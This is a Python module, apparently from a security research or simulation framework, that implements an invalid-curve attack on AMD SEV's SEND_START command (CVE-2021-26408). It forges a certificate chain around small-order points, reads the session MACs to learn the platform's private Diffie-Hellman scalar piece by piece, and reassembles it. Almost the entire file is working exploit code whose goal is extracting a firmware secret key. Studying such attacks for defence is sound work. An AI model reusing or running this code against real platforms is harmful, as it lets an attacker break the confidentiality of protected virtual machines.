"""The private scalar of the platform's PDH, from points that are not on its curve (row 64, CVE-2021-26408).

SEND_START seals a session for any PDH whose chain is signed, by whomever, where the guest's policy does not ask for
AMD's root. The attacker signs a chain of its own around a point of small order r on another curve of the same form.
There are r / 2 + 1 coordinates that the shared point may have; the session's MAC says which, without another question
to the firmware, and so what the scalar is modulo r, but for its sign. Of the scalar's square the sign is of no matter:
orders enough to hold it make up the scalar (Biehl, Meyer, Mueller 2000; its square as in later work on such oracles).

``small_order_points.csv`` has a point for each order. They were found with PARI/GP by complex multiplication, which
gives the orders of curves that need not be counted.
"""

from __future__ import annotations

import csv
import hashlib
import hmac
import math
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from functools import lru_cache
from importlib.resources import files

from node.core_msrs import SNP_EN, Msr
from node.operations import HostRead, HostWrite, PspAnswer, PspCommand, ReadMsr, RmpUpdate
from psp import command_buffers as buffers
from psp import elliptic, sev_certificate
from psp.commands import LegacyCommand
from psp.sev_certificate import KeyUsage, SevCertificate
from psp.sev_chain import PlatformChain
from psp.sev_session import Session, wrapping_keys
from psp.system_bus import PAGE_BYTES, RmpEntry
from workloads.attacks.claims import WorkedOut
from workloads.attacks.small_guest import Steps
from workloads.attacks.target import WRITE_BACK, Attack, Target

SCALAR_BYTES = 48
_TABLE = "small_order_points.csv"
_FIRMWARE = RmpEntry(assigned=True, immutable=True)
_POINT = tuple[int, int]


@dataclass(frozen=True, slots=True)
class SmallOrderPoint:
    """A point of a small prime order on a curve y^2 = x^3 - 3x + c that is not P-384."""

    order: int
    x: int
    y: int

    def multiples(self) -> Iterator[bytes]:
        """The x coordinates of the multiples from 0 on, as ECDH gives them; those of n and -n are the same."""
        yield bytes(SCALAR_BYTES)
        at: _POINT | None = None
        for _ in range(max(self.order // 2, 1)):
            at = _added(at, (self.x, self.y))
            yield at[0].to_bytes(SCALAR_BYTES, "big")


@lru_cache(maxsize=1)
def small_order_points() -> tuple[SmallOrderPoint, ...]:
    """One for each order of the table."""
    lines = (files("workloads.attacks") / _TABLE).read_text("utf-8").splitlines()
    return tuple(SmallOrderPoint(int(r["order"]), int(r["x"], 16), int(r["y"], 16)) for r in csv.DictReader(lines))


@dataclass(slots=True)
class Squares:
    """What is known of a scalar: its square modulo the product of all orders that were asked for."""

    value: int = 0
    modulus: int = 1

    def learn(self, residue: int, order: int) -> None:
        """The scalar is ``residue`` or its negative modulo an order."""
        step = (residue * residue - self.value) * pow(self.modulus, -1, order) % order
        self.value += self.modulus * step
        self.modulus *= order

    def scalar(self) -> int | None:
        """The scalar, if enough is known of it."""
        root = math.isqrt(self.value)
        return root if root * root == self.value else None


def residue_of(point: SmallOrderPoint, session: Session) -> int | None:
    """What the scalar is modulo an order, but for its sign, by a session that was sealed with it; None if by another.

    The MAC over the wrapped keys is made with a key that follows from the shared coordinate.
    """
    for residue, z in enumerate(point.multiples()):
        mac = hmac.digest(wrapping_keys(z, session.nonce).kik, session.wrapped_keys, "sha256")
        if mac == session.wrap_mac:
            return residue
    return None


def recover_the_scalar(target: Target) -> Attack:
    """Row 64: have a guest of the attacker's own be sent to one point after the other, and never go."""
    known, sender = Squares(), Sender(target)
    (syscfg,) = yield (ReadMsr(0, Msr.SYSCFG),)
    sender.lends = isinstance(syscfg, int) and bool(syscfg & SNP_EN)
    for point in small_order_points():
        yield from sender.start(point)
        if sender.session is None:
            return
        residue = residue_of(point, sender.session)
        if residue is None:
            return
        known.learn(residue, point.order)
        yield from sender.cancel()
    scalar = known.scalar()
    if scalar is not None:
        yield (WorkedOut(scalar.to_bytes(SCALAR_BYTES, "big")),)


def _of_point(point: SmallOrderPoint, chain: PlatformChain) -> SevCertificate:
    field_of_point = elliptic.pack_coordinates(point.x, point.y)
    return sev_certificate.sign(replace(chain.pdh, public_key=field_of_point), _own_key("PEK"), KeyUsage.PEK)


def _own_chain() -> PlatformChain:
    """OCA and PEK of nobody's platform; the PDH is still to be filled in."""
    oca, pek = _own_key("OCA"), _own_key("PEK")
    made = {usage: sev_certificate.unsigned(pek.public_key(), usage, (0, 24)) for usage in (KeyUsage.PDH, KeyUsage.PEK)}
    owner = sev_certificate.unsigned(oca.public_key(), KeyUsage.OCA, (0, 24))
    return PlatformChain(
        pdh=made[KeyUsage.PDH],
        pek=sev_certificate.sign(made[KeyUsage.PEK], oca, KeyUsage.OCA),
        oca=sev_certificate.sign(owner, oca, KeyUsage.OCA),
        cek=sev_certificate.unsigned(_own_key("CEK").public_key(), KeyUsage.CEK, (0, 24)),
    )


def _own_key(name: str) -> elliptic.PrivateKey:
    return elliptic.private_key(hashlib.shake_128(f"attacker's {name}".encode()).digest(elliptic.SEED_BYTES))


@dataclass(slots=True)
class Sender:
    """Buffers of SEND_START in the target's spare frames, and the chain that all points share."""

    target: Target
    lends: bool = False
    """Whether SNP is up: then what firmware writes must be lent to it."""
    session: Session | None = None
    _chain: PlatformChain = field(default_factory=_own_chain)

    def start(self, point: SmallOrderPoint) -> Steps:
        """SEND_START to a point. ``session`` is what came of it, None if it was refused."""
        # Addresses need not be of different pages: the chain takes two, which lie beside each other.
        chain, out = _beside(self.target.spare)
        command = self.target.command_page
        body = _of_point(point, self._chain).pack() + self._chain.pack()
        start = buffers.SendStart(
            self.target.tenant.handle, 0, chain, SevCertificate.SIZE, chain + SevCertificate.SIZE,
            3 * SevCertificate.SIZE, 0, 0, out, Session.SIZE,
        )  # fmt: skip
        yield (HostWrite(chain, body), HostWrite(command, start.pack()))
        yield WRITE_BACK
        if self.lends:
            yield tuple(RmpUpdate(spa, PAGE_BYTES, _FIRMWARE) for spa in (command, out))
        (answer,) = yield (PspCommand(LegacyCommand.SEND_START, command),)
        self.session = None
        if isinstance(answer, PspAnswer) and answer.status == 0:
            (sealed,) = yield (HostRead(out, Session.SIZE),)
            self.session = Session.parse(sealed) if isinstance(sealed, bytes) else None

    def cancel(self) -> Steps:
        """SEND_CANCEL: the guest stays, and can be sent again."""
        handle = buffers.Handle(self.target.tenant.handle)
        yield (PspCommand(LegacyCommand.SEND_CANCEL, self.target.command_page, handle.pack()),)


def _beside(frames: tuple[int, ...]) -> tuple[int, int]:
    """Three frames beside each other, and another; ValueError if there are none."""
    for first in frames:
        rest = [one for one in frames if not first <= one < first + 3 * PAGE_BYTES]
        if {first + PAGE_BYTES, first + 2 * PAGE_BYTES} <= set(frames) and rest:
            return first, rest[0]
    raise ValueError("spare frames: expected three beside each other, and another")


def _added(one: _POINT | None, other: _POINT) -> _POINT:
    """The sum of a multiple that is not the other's negative, and the other."""
    if one is None:
        return other
    (x, y), (u, v) = one, other
    rise, run = (3 * (x * x - 1), 2 * y) if one == other else (v - y, u - x)
    slope = rise * pow(run, -1, elliptic.FIELD)
    found = (slope * slope - x - u) % elliptic.FIELD
    return found, (slope * (x - found) - y) % elliptic.FIELD
